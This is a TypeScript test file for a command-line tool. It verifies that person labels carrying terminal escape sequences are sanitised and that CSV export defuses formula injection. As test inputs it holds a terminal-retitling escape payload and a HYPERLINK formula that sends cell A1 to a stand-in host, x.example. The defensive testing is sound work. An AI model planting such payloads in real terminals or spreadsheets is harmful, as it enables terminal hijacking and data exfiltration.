/**
 * Labels are data a person typed (or pasted): control characters never reach the terminal raw,
 * and a CSV export never hands a spreadsheet a formula.
 */
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildFixture, cli, type Fixture } from './fixture.js';
import { openStore } from '../../src/store/index.js';

let f: Fixture;
before(async () => {
  f = await buildFixture();
});

// ESC ] 0 ; title BEL (retitles the terminal), CSI (C1), a bidi override, DEL, a carriage return.
const EVIL = '\u001b]0;pwned\u0007Bob\u009b31m\u202e\revil\u007f';
const unsafe = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

test('issue 21: a label with control characters is stripped in every text output, escaped in JSON', async () => {
  // faceidx label refuses control characters; a label stored otherwise (an older faceidx, another
  // writer of the store) still never reaches the terminal raw.
  const refused = await cli('label', String(f.ids.bob), EVIL, '--config', f.config);
  assert.equal(refused.code, 2, refused.stderr);
  const bidi = await cli('label', String(f.ids.carol), 'Carol\u202e lort', '--config', f.config);
  assert.equal(bidi.code, 0, bidi.stderr);
  const store = await openStore(f.dir);
  await store.people.setLabel(f.ids.bob, EVIL);
  await store.close();
  const outputs = [
    bidi.stdout,
    (await cli('people', '--all', '--config', f.config)).stdout,
    (await cli('person', String(f.ids.bob), '--config', f.config)).stdout,
  ];
  for (const out of outputs) {
    assert.ok(!unsafe.test(out), JSON.stringify(out));
  }
  for (const out of outputs.slice(1)) assert.match(out, /\]0;pwnedBob31m ?evil/);
  const json = (await cli('people', '--all', '--json', '--config', f.config)).stdout;
  assert.ok(!unsafe.test(json), JSON.stringify(json));
  const bob = (JSON.parse(json) as Array<{ id: number; label: string }>).find((p) => p.id === f.ids.bob)!;
  assert.equal(bob.label, EVIL, 'the JSON value itself is unchanged');
});

test('issue 21: CSV cells starting with = + - @ are text, not formulas', async () => {
  assert.equal((await cli('label', String(f.ids.alice), '=HYPERLINK("http://x.example/?q="&A1,"click")', '--config', f.config)).code, 0);
  assert.equal((await cli('label', String(f.ids.eve), '@SUM(1+1)', '--config', f.config)).code, 0);
  const out = join(f.root, 'people.csv');
  assert.equal((await cli('export', '--format', 'csv', '--out', out, '--config', f.config)).code, 0);
  const text = readFileSync(out, 'utf8');
  assert.ok(text.includes(`"'=HYPERLINK(""http://x.example/?q=""&A1,""click"")"`), text);
  assert.ok(text.includes(`,'@SUM(1+1)\r\n`), text);
  assert.ok(!/(^|,)"?[=@+]/m.test(text), 'no cell starts with a formula character');
});
